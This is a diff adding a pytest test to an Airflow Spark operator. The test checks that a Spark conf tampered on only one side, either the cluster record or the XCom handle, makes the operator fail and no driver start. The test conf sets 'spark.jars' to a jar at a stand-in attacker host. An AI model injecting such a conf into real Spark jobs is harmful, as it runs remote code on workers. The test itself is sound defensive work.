@@ -226,6 +226,34 @@ def test_the_job_timeout_stops_the_drivers_whole_session(app: Path) -> None:
     assert _gone(pid), "the driver's Python process outlived the timeout"
 
 
+@pytest.mark.parametrize("side", ["record", "xcom"])
+def test_a_conf_that_only_the_record_or_only_the_xcom_states_starts_no_driver(
+        app: Path, monkeypatch: pytest.MonkeyPatch, side: str) -> None:
+    """A namespace editor can rewrite a Kubernetes cluster's record, an XCom editor the handle;
+    the driver runs on the worker, where ``spark.jars`` or ``-javaagent`` would run their
+    code. It takes a conf only when both say the same."""
+    from airflow.sdk.exceptions import AirflowFailException
+
+    from ephemeral.airflow import operators, spark_submit
+
+    evil = {"spark.jars": "https://attacker.example/evil.jar"}
+    op = _operator(app, "ok")
+    if side == "xcom":
+        op.cluster = op.cluster | {"spark_conf": op.cluster["spark_conf"] | evil}
+    record = ClusterHandle.model_validate(_handle("local[1]"))
+    if side == "record":
+        record = record.model_copy(update={"spark_conf": record.spark_conf | evil})
+    backend = SimpleNamespace(name="stand-in", owned=lambda _handle, _selector: record)
+    monkeypatch.setattr(operators, "cluster_backend", lambda *_a: backend)
+
+    def never(*_a: Any, **_k: Any) -> Any:
+        raise AssertionError("no driver may start")
+
+    monkeypatch.setattr(spark_submit.EphemeralSparkSubmitOperator, "_submit", never)
+    with pytest.raises(AirflowFailException, match=r"differ on the Spark conf spark\.jars"):
+        op.execute(CONTEXT)
+
+
 def test_on_kill_stops_the_drivers_session(app: Path) -> None:
     import subprocess
 
